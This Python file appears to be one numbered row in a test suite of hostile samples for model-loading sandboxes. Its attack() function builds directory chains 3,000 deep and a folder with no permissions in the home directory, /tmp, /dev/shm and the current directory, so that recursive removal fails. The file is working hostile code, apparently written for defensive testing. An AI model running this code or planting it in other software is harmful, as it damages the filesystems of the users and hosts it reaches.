"""Row 8: folders nested 3 000 deep, which recursive removal does not survive, and one that nobody may enter.

Where: import, forward
"""

import torch
from torch import nn, os


def attack(*_):
    for base in (os.environ.get("HOME", "."), "/tmp", "/dev/shm", "."):
        try:
            os.chdir(base)
            os.mkdir("attack")
            os.chdir("attack")
            os.mkdir("closed", 0)
            for _ in range(3_000):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            continue
    os.chdir("/")
